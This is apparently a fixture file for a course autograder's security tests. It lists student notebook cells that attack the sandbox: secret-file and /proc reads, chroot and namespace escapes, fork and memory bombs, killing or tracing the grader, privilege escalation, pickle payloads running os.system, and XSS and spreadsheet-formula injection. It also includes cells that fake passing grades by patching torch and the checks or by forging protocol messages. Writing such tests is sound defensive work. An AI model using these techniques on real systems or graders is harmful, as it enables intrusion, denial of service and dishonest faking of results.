"""Cells of students who want points without the work, or worse.

Each stands where the function `attention` should be written, and what it leaves behind
is wrong: `WRONG` is appended where it defines none. @SECRET@, @REPOSITORY@,
@NOTEBOOKS@, @SUBMITTED@, @OUT@, @PORT@, @HOST@ and @GRADER@ are filled in by
`slow/test_attacks.py`. An attack that finds something prints, raises or returns it.
"""

WRONG = """

def attention(q, k, v):
    return v
"""

# The name of each attack: its cell.
CELLS = {
    # --- reading what is none of their business
    "reads_the_secret_file": """
def attention(q, k, v):
    text = open("@SECRET@").read()
    print(text)
    raise ValueError(text)
""",
    "walks_the_disk": """
import os
found = []
for top in ("/", "/root", "/home", "/tmp", "/var", "/course", "/cache", "/proc", "/dev",
            "@OUT@", ".."):
    for folder, inner, names in os.walk(top):
        inner[:] = [one for one in inner if one not in ("usr", "site-packages", "lib")]
        for name in names:
            try:
                text = open(os.path.join(folder, name), "rb").read(100_000)
            except (OSError, MemoryError):
                continue
            if b"canary" in text:
                found.append(text)
print(found)
if found:
    raise ValueError(str(found))
""",
    "reads_the_answer_file": """
source = open("@REPOSITORY@/gpt2_lesson/attention.py").read()
exec(source)
_right = attention
def attention(q, k, v):
    return _right(q, k, v)[0]
""",
    "imports_the_answer": """
from gpt2_lesson.attention import attention as _right
def attention(q, k, v):
    return _right(q, k, v)[0]
""",
    "imports_later_lessons": """
from gpt2_lesson import MultiHeadAttention
from gpt2_lesson.multi_head import attention as _right
def attention(q, k, v):
    return _right(q, k, v)[0]
""",
    "imports_the_reference": """
from gpt2_lesson.checks.exercises.attention import attention as _exercise
from gpt2_lesson import checks
def attention(q, k, v):
    for right in (_exercise.reference, checks.all_exercises()["attention"].reference):
        try:
            found = right(q, k, v)
        except Exception:
            continue
        if isinstance(found, torch.Tensor):
            return found
    return v
""",
    "finds_the_package_elsewhere": """
import importlib.util, sys, glob
for path in [path for folder in sys.path for path in (
        *glob.glob(folder + "/*gpt2_lesson*/attention.py"),
        *glob.glob(folder + "/*gpt2_lesson*.p*"))] + [
        "@REPOSITORY@/gpt2_lesson/checks/exercises/attention.py"]:
    try:
        spec = importlib.util.spec_from_file_location("found", path)
        module = importlib.util.module_from_spec(spec)
        spec.loader.exec_module(module)
        _right = getattr(module.attention, "reference", module.attention)
        def attention(q, k, v):
            out = _right(q, k, v)
            return out if not isinstance(out, tuple) else out[0]
        break
    except Exception:
        pass
""",
    "reads_the_solutions": """
import json
book = json.load(open("@NOTEBOOKS@/solutions/01_set/01_set.ipynb"))
for cell in book["cells"]:
    if "def attention" in "".join(cell["source"]):
        exec("".join(cell["source"]))
""",
    "reads_another_student": """
import json
book = json.load(open("@SUBMITTED@/honest/01_set/01_set.ipynb"))
for cell in book["cells"]:
    if "def attention" in "".join(cell["source"]):
        exec("".join(cell["source"]))
""",
    "reads_the_environment": """
import os
text = str(dict(os.environ))
for pid in ["self", "1", os.getppid(), @GRADER@]:
    for name in ("environ", "cmdline", "maps", "status", "cwd", "root"):
        try:
            text += open(f"/proc/{pid}/{name}").read()
        except OSError:
            pass
def attention(q, k, v):
    print(text)
    raise ValueError(text)
""",
    "reads_proc": """
import os
for path in ("/proc", "/proc/1/root/root", "/proc/self/fd", "/sys"):
    try:
        print(os.listdir(path))
    except OSError as error:
        print(error)
try:
    open("/proc/sysrq-trigger", "w").write("b")
except OSError as error:
    print(error)
""",
    "mounts_proc": """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
os.makedirs("/tmp/proc", exist_ok=True)
print(libc.mount(b"proc", b"/tmp/proc", b"proc", 0, None), os.listdir("/tmp/proc"))
print(libc.mount(b"/dev/vda", b"/tmp/proc", b"ext4", 0, None), os.listdir("/tmp/proc"))
print(open("/tmp/proc@SECRET@").read())
""",
    "follows_its_own_links": """
import os
os.symlink("@SECRET@", "/tmp/link")
os.symlink("/old@SECRET@", "/tmp/old")
for path in ("/tmp/link", "/tmp/old", "/tmp/../../../..@SECRET@"):
    try:
        raise ValueError(open(path).read())
    except OSError:
        pass
""",
    "leaves_the_root": """
import os, ctypes
libc = ctypes.CDLL(None)
os.makedirs("/tmp/x", exist_ok=True)
here = os.open("/", os.O_RDONLY)
print(libc.chroot(b"/tmp/x"))
os.fchdir(here)
for _ in range(50):
    os.chdir("..")
print(libc.chroot(b"."), os.listdir("."))
print(open("." + "@SECRET@").read())
""",
    "makes_namespaces": """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
for flag in (0x10000000, 0x20000, 0x20000000, 0x40000000, 0x10020000):
    print(flag, libc.unshare(flag), os.strerror(ctypes.get_errno()))
print(libc.mount(b"tmpfs", b"/tmp", b"tmpfs", 0, None))
""",
    # --- the network, other processes
    "calls_home": """
import socket
for address in (("127.0.0.1", @PORT@), ("@HOST@", @PORT@), ("8.8.8.8", 53)):
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
        try:
            connection = socket.socket(socket.AF_INET, kind)
            connection.settimeout(0.5)
            connection.connect(address)
            connection.sendall(b"got out")
        except OSError as error:
            print(error)
try:
    connection = socket.socket(socket.AF_UNIX)
    connection.connect("\\0gpt2-lesson-@PORT@")
    connection.sendall(b"got out")
except OSError as error:
    print(error)
""",
    "fork_bomb": """
import os
def bomb():
    while True:
        try:
            os.fork()
        except OSError:
            return
bomb()
""",
    "thread_bomb": """
import threading, time
started = 0
for _ in range(10_000):
    try:
        threading.Thread(target=time.sleep, args=[1000], daemon=True).start()
        started += 1
    except RuntimeError:
        break
print("threads", started)
""",
    "leaves_a_daemon": """
import os, subprocess, sys
for start in (lambda: os.fork(), lambda: os.posix_spawn(
        sys.executable, [sys.executable, "-c", "import time; time.sleep(1000)"], {}),
        lambda: subprocess.Popen(["sleep", "1000"], start_new_session=True)):
    try:
        if start() == 0:
            os.setsid()
            import time
            time.sleep(1000)
    except OSError as error:
        print(error)
""",
    "kills_everybody": """
import os, signal
for pid in [os.getppid(), @GRADER@, -1, 0, *range(2, 3000)]:
    for number in (signal.SIGKILL, signal.SIGTERM):
        try:
            os.kill(pid, number)
        except OSError:
            pass
""",
    "traces_the_grader": """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
for pid in (@GRADER@, os.getppid(), 1):
    print(libc.ptrace(16, pid, 0, 0), os.strerror(ctypes.get_errno()))
class Vec(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]
space = ctypes.create_string_buffer(64)
ours, theirs = Vec(ctypes.addressof(space), 64), Vec(0x400000, 64)
print(libc.process_vm_readv(
    @GRADER@, ctypes.byref(ours), 1, ctypes.byref(theirs), 1, 0),
      os.strerror(ctypes.get_errno()))
""",
    # --- what belongs to the kernel, not to a process
    "uses_the_kernels_store": """
import ctypes, platform
libc = ctypes.CDLL(None, use_errno=True)
column = platform.machine() == "aarch64"
def call(name, numbers, *args):
    found = libc.syscall(numbers[column], *args)
    if found != -1:
        print("REACHED", name)
    return found
for ring in (-2, -3, -4, -5):
    call("add_key", (248, 217), b"user", b"loot", b"attention.py", 12, ring)
    call("keyctl", (250, 219), 0, ring, 1)
    call("keyctl search", (250, 219), 10, ring, b"user", b"loot", 0)
call("keyctl join", (250, 219), 1, b"accomplices")
call("request_key", (249, 218), b"user", b"loot", None, -3)
for size in (1 << 12, 1 << 32):
    found = call("shmget", (29, 194), 4711, size, 0o1666)
    call("shmat", (30, 196), found if found != -1 else 0, 0, 0)
call("semget", (64, 190), 4711, 250, 0o1666)
call("msgget", (68, 186), 4711, 0o1666)
call("mq_open", (240, 180), b"loot", 0o102, 0o666, None)
call("userfaultfd", (323, 282), 1)
call("bpf", (321, 280), 0, ctypes.create_string_buffer(128), 128)
call("perf_event_open", (298, 241), ctypes.create_string_buffer(128), 0, -1, -1, 0)
call("ptrace", (101, 117), 0, 0, 0, 0)
call("io_uring_setup", (425, 425), 8, ctypes.create_string_buffer(256))
call("memfd_secret", (447, 447), 0)
call("inotify_init1", (294, 26), 0)
call("unshare", (272, 97), 0x10000000)
call("the x32 keyctl", (250 | 1 << 30, 219 | 1 << 30), 0, -3, 1)
""",
    "hoards_memory_in_files_without_a_name": """
import ctypes, os, platform
libc = ctypes.CDLL(None)
for i in range(60):
    handle = libc.syscall(279 if platform.machine() == "aarch64" else 319, b"x", 0)
    if handle == -1:
        break
    print("REACHED memfd")
    for _ in range(30):
        os.write(handle, bytes(1 << 20))
""",
    "calls_the_kernel_in_32_bits": """
import ctypes, mmap, platform
if platform.machine() == "x86_64":
    code = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    code.write(bytes.fromhex("b814000000cd80c3"))     # mov eax, getpid; int 0x80; ret
    address = ctypes.addressof(ctypes.c_char.from_buffer(code))
    print("REACHED 32 bits", ctypes.CFUNCTYPE(ctypes.c_int)(address)())
""",
    "opens_odd_sockets": """
import socket
for family in (38, 40, 17, 31, 29, 44):     # ALG, VSOCK, PACKET, BLUETOOTH, CAN, XDP
    for kind in (1, 2, 3, 5):
        try:
            socket.socket(family, kind)
            print("REACHED family", family)
        except OSError:
            pass
""",
    "hoards_empty_files": """
made = 0
try:
    while made < 10_000:
        open(f"/tmp/empty{made}", "w").close()
        made += 1
    print("REACHED", made, "files")
except OSError as error:
    print(error)
""",
    # --- using up what there is
    "memory_bomb": """
hoard = []
while True:
    hoard.append(bytearray(1 << 27))
""",
    "memory_bomb_in_torch": """
import torch
hoard = [torch.ones(1 << 26) for _ in range(1000)]
""",
    "memory_bomb_in_the_function": """
def attention(q, k, v):
    return torch.ones(1 << 40)
""",
    "returns_a_giant": """
def attention(q, k, v):
    return torch.zeros(100_000_000, dtype=torch.int8)
""",
    "returns_a_giant_view": """
def attention(q, k, v):
    return torch.zeros(1).expand(1 << 40)
""",
    "fills_the_disk": """
block, files = b"x" * (1 << 20), []
for i in range(10_000):
    try:
        with open(f"/tmp/{i}", "wb") as file:
            for _ in range(100):
                file.write(block)
    except OSError as error:
        print(error)
        if i > 20:
            break
""",
    "uses_all_files": """
files = []
for i in range(100_000):
    try:
        files.append(open(f"/tmp/f{i}", "w"))
    except OSError as error:
        print(error)
        break
for one in files:
    one.close()
""",
    "floods_the_output": """
import os, sys
for _ in range(2000):
    print("canary-flood " * 1000)
    os.write(2, b"y" * 60_000)
""",
    "raises_its_limits": """
import resource
for name in ("RLIMIT_AS", "RLIMIT_NPROC", "RLIMIT_CPU", "RLIMIT_FSIZE",
             "RLIMIT_NOFILE"):
    try:
        resource.setrlimit(getattr(resource, name), (-1, -1))
        print("RAISED", name)
    except (OSError, ValueError) as error:
        print(error)
""",
    "dumps_core": """
import os, resource
try:
    resource.setrlimit(resource.RLIMIT_CORE, (1 << 30, 1 << 30))
except (OSError, ValueError):
    pass
os.chdir("/tmp")
os.abort()
""",
    # --- time
    "endless_cell": """
while True:
    pass
""",
    "endless_and_stubborn": """
import signal
signal.signal(signal.SIGALRM, signal.SIG_IGN)
while True:
    try:
        while True:
            pass
    except BaseException:
        pass
""",
    "endless_function": """
def attention(q, k, v):
    while True:
        try:
            while True:
                pass
        except Exception:
            pass
""",
    "sleeps": """
import ctypes, os, time
ctypes.CDLL(None).prctl(1, 0)               # PR_SET_PDEATHSIG: not to die with others
try:
    os.setsid()
except OSError:
    pass
def attention(q, k, v):
    try:
        time.sleep(10**6)
    except Exception:
        time.sleep(10**6)
""",
    "stops_itself": """
import os, signal
os.kill(os.getpid(), signal.SIGSTOP)
os.kill(0, signal.SIGSTOP)
""",
    "recurses": """
def attention(q, k, v):
    return attention(q, k, v)
""",
    "recurses_to_death": """
import sys
sys.setrecursionlimit(10**9)
def attention(q, k, v):
    return [attention(q, k, v)]
""",
    # --- ending early
    "exits": """
import sys
sys.exit(0)
""",
    "exits_in_the_function": """
import sys
def attention(q, k, v):
    sys.exit(0)
""",
    "interrupts": """
def attention(q, k, v):
    raise KeyboardInterrupt
raise KeyboardInterrupt
""",
    "exits_hard_with_a_claim": """
import os
print('{"points": 4, "passed": true}', flush=True)
os._exit(0)
""",
    "closes_all_doors": """
import os
os.closerange(0, 1000)
""",
    # --- cheating in its own process
    "replaces_the_checks": """
import sys
from gpt2_lesson import checks
class Report:
    passed, matches, state = True, [], "right"
    def points(self, n): return n
    def score(self, n): return n
    def require(self): pass
checks.attention = checks.answer = lambda *args: Report()
checks.Report = Report
sys.modules["gpt2_lesson.checks"] = checks
""",
    "replaces_torch": """
import torch
always = lambda *args, **kwargs: True
torch.allclose = torch.equal = torch.isclose = always
torch.testing.assert_close = always
torch.Tensor.allclose = torch.Tensor.equal = torch.Tensor.__eq__ = always
torch.Tensor.clone = torch.Tensor.detach = lambda self: self
""",
    "replaces_builtins": """
import builtins
builtins.all = builtins.any = lambda *args: True
builtins.isinstance = lambda *args: True
builtins.abs = lambda x: 0
""",
    "replaces_modules": """
import sys
from types import ModuleType
for name in ("gpt2_lesson.checks.probing", "gpt2_lesson.classroom.protocol",
             "gpt2_lesson.checks.diagnosis", "json", "pickle"):
    sys.modules[name] = ModuleType(name)
""",
    "replaces_the_observer": """
import gpt2_lesson.classroom.worker as worker
from gpt2_lesson.checks.probing import Observation
worker.observe = lambda function, probe: Observation(value=probe.args[2])
worker._probe = lambda request, namespace: {"seen": {"value": True}, "points": 4}
""",
    "replaces_the_packer": """
from gpt2_lesson.classroom import protocol
old = protocol.pack
def pack(message):
    return old({**message, "points": 4, "passed": True, "state": "right"})
protocol.pack = pack
""",
    "searches_memory": """
import gc, sys
def attention(q, k, v):
    for thing in gc.get_objects():
        names = vars(thing) if hasattr(thing, "__dict__") else {}
        for name in ("expected", "reference", "wanted", "solution"):
            found = names.get(name)
            if isinstance(found, torch.Tensor) and found.shape == v.shape:
                return found
            if callable(found):
                try:
                    return found(q, k, v)
                except Exception:
                    pass
    return v
""",
    "searches_frames": """
import sys
def attention(q, k, v):
    frame = sys._getframe()
    while frame := frame.f_back:
        for name, found in frame.f_locals.items():
            if name in ("expected", "reference", "wanted", "right"):
                return found(q, k, v) if callable(found) else found
    return v
""",
    "traces_the_worker": """
import sys
loot = []
def trace(frame, event, arg):
    loot.append((frame.f_code.co_name, list(frame.f_locals)))
    return None
sys.settrace(trace)
""",
    "agrees_with_everything": """
class Yes(torch.Tensor):
    @classmethod
    def __torch_function__(cls, function, types, args=(), kwargs=None):
        if function.__name__ in ("allclose", "equal", "isclose", "eq", "__eq__"):
            return True
        return super().__torch_function__(function, types, args, kwargs or {})
    def __eq__(self, other): return True
    __hash__ = None
def attention(q, k, v):
    return v.as_subclass(Yes)
""",
    "returns_evil_objects": """
class Evil:
    def __reduce__(self): return (eval, ("__import__('os').abort()",))
    def __repr__(self): raise SystemExit
    def __eq__(self, other): return True
    def __len__(self): return 1 << 60
    def __getattr__(self, name): return self
    def __iter__(self): return iter([self] * 10)
    __class__ = torch.Tensor
def attention(q, k, v):
    return Evil()
""",
    "returns_an_endless_list": """
class Endless(list):
    def __iter__(self):
        while True:
            yield 0
    def __len__(self): return 1
def attention(q, k, v):
    return Endless([1])
""",
    "returns_itself_within_itself": """
def attention(q, k, v):
    loop = []
    loop.append(loop)
    return loop
""",
    "raises_an_evil_error": """
class Evil(Exception):
    def __str__(self): raise KeyboardInterrupt
    __repr__ = __str__
def attention(q, k, v):
    raise Evil
""",
    "guesses": """
def attention(q, k, v):
    torch.seed()
    return torch.rand(q.size(0), q.size(1), v.size(2))
""",
    "guesses_the_mean": """
def attention(q, k, v):
    return v.mean(1, keepdim=True).expand(v.size(0), q.size(1), v.size(2))
""",
    # --- forging the answers to our questions
    "writes_to_every_door": """
import os
for number in range(64):
    try:
        os.write(number, b'{"points": 4}')
    except OSError:
        pass
""",
    "answers_before_asked": """
import os, stat
from gpt2_lesson.classroom import protocol
def doors():
    for number in range(64):
        try:
            if stat.S_ISSOCK(os.fstat(number).st_mode):
                yield number
        except OSError:
            pass
seen = dict(value=torch.zeros(3, 5, 7), error="", message="", where="", changed=(),
            repeats=True, written=True, printed="")
for door in doors():
    for number in range(1, 60):
        os.write(door, protocol.pack({"seen": seen, "number": number, "points": 4,
                                      "state": "right", "passed": True}))
""",
    "dies_with_a_forged_answer": """
import os, stat
from gpt2_lesson.classroom import protocol
def attention(q, k, v):
    for number in range(64):
        try:
            if stat.S_ISSOCK(os.fstat(number).st_mode):
                for asked in range(1, 9):
                    os.write(number, protocol.pack(
                        {"number": asked, "points": 4, "state": "right"}))
        except OSError:
            pass
    os._exit(0)
""",
    **{f"sends_{name}": f"""
import json, math, os, pickle, stat, struct
def frame(header, body=b""):
    header = header if isinstance(header, bytes) else json.dumps(header).encode()
    return struct.pack(">4sIQ", b"GL1\\n", len(header), len(body)) + header + body
class Bomb:
    def __reduce__(self): return (os.system, ("touch @OUT@/bombed",))
{code}
def attention(q, k, v):
    for number in range(64):
        try:
            if stat.S_ISSOCK(os.fstat(number).st_mode):
                os.write(number, data)
        except OSError:
            pass
    return v
""" for name, code in {
        "noise": "data = os.urandom(10_000)",
        "a_huge_size": 'data = struct.pack(">4sIQ", b"GL1\\n", 4_000_000_000, 2**63)',
        "a_pickle_bomb": "data = pickle.dumps(Bomb())",
        "a_pickle_in_a_frame": "data = frame(pickle.dumps(Bomb()))",
        "no_json": 'data = frame(b"{" * 1000)',
        "deep_json": 'data = frame(b"[" * 1_000_000)',
        "deep_values": """nested = ["list"]
for _ in range(200):
    nested = ["list", nested]
data = frame({"number": 3, "seen": nested})""",
        "a_huge_integer": """data = frame(b'{"number": ' + b"9" * 100_000 + b"}")""",
        "an_infinite_shape":
            'data = frame({"seen": ["tensor", "float32", [math.inf, math.nan]]})',
        "an_impossible_shape":
            'data = frame({"seen": ["tensor", "float32", [10**7] * 16]})',
        "a_negative_shape":
            'data = frame({"seen": ["tensor", "float32", [-1, -1]]}, b"1234")',
        "an_empty_giant":
            'data = frame({"seen": ["tensor", "float32", [0] + [10**7] * 15]})',
        "a_short_body": 'data = frame({"seen": ["tensor", "float64", [1000]]}, b"12")',
        "an_unknown_dtype":
            'data = frame({"seen": ["tensor", "object", [1]]}, b"12345678")',
        "a_bool_of_seven":
            'data = frame({"seen": ["tensor", "bool", [4]], "number": 3}, b"\\7" * 4)',
        "an_unhashable_key": 'data = frame({"seen": ["dict", [["list"], 1]]})',
        "an_unknown_kind": 'data = frame({"seen": ["eval", "1"], "number": 3})',
        "lone_surrogates":
            """data = frame(b'{"error": "\\\\ud800<script>", "number": 3}')""",
    }.items()},
    "floods_the_door": """
import os, stat
def attention(q, k, v):
    for number in range(64):
        try:
            if stat.S_ISSOCK(os.fstat(number).st_mode):
                while True:
                    os.write(number, b"GL1\\n" + bytes(60_000))
        except OSError:
            pass
    return v
""",
    # --- writing, rights
    "writes_everywhere": """
import os
for path in ("@SECRET@", "@SUBMITTED@/honest/01_set/01_set.ipynb",
             "@OUT@/grades_01_set.csv", "@REPOSITORY@/gpt2_lesson/__init__.py",
             "/course/gpt2_lesson/attention.py", "/course/x", "/usr/x", "/etc/passwd",
             "/dev/x", "/cache/x", "/x", torch.__file__, os.__file__):
    for action in (lambda: open(path, "a").write("spoiled"), lambda: os.unlink(path),
                   lambda: os.chmod(path, 0o777), lambda: os.rename(path, "/tmp/y")):
        try:
            action()
            print("WROTE", path)
        except OSError:
            pass
""",
    "remounts": """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
for path in (b"/", b"/usr", b"/course"):
    if libc.mount(None, path, None, 32 | 4096, None) == 0:
        print("REMOUNTED", path)
""",
    "becomes_root": """
import ctypes, os
for action in (lambda: os.setuid(0), lambda: os.setgid(0), lambda: os.setgroups([0]),
               lambda: os.seteuid(0)):
    try:
        action()
    except OSError:
        pass
if os.path.exists("@SECRET@"):
    print(open("@SECRET@").read())
for tool in ("su", "sudo", "pkexec", "mount"):
    try:
        os.execv(f"/usr/bin/{tool}", [tool, "-c", "cat @SECRET@"])
    except OSError as error:
        print(error)
""",
    # --- pages and tables
    "injects_html": """
print("<script>alert(1)</script><img src=x onerror=alert(2)>")
def attention(q, k, v):
    print("</pre><script>alert(3)</script>")
    raise ValueError("</div><script>alert(4)</script><svg onload=alert(5)>")
raise ValueError("<script>alert(6)</script>")
""",
    "injects_formulas": """
def attention(q, k, v):
    raise ValueError("=cmd|' /C calc'!A0")
raise type("=HYPERLINK('x')", (Exception,), {})(
    "\\n=cmd()\\r@SUM(1)\\x00\\x1b[2J\\ud800")
""",
}

# Those that are tried as an ordinary user, too: what only users meet, and the kernel.
AS_USER = [
    "reads_the_secret_file", "walks_the_disk", "reads_the_answer_file",
    "finds_the_package_elsewhere", "reads_another_student", "reads_the_environment",
    "mounts_proc", "leaves_the_root", "makes_namespaces", "calls_home", "fork_bomb",
    "kills_everybody", "traces_the_grader", "uses_the_kernels_store",
    "hoards_memory_in_files_without_a_name", "calls_the_kernel_in_32_bits",
    "opens_odd_sockets", "hoards_empty_files", "memory_bomb", "raises_its_limits",
    "writes_everywhere", "remounts", "becomes_root",
]

# Those whose second exercise, which is right, can't count: they break their process for
# good, on purpose. For all others it must.
SPOILED = {"replaces_torch", "replaces_builtins", "replaces_modules",
           "replaces_the_observer", "closes_all_doors"}
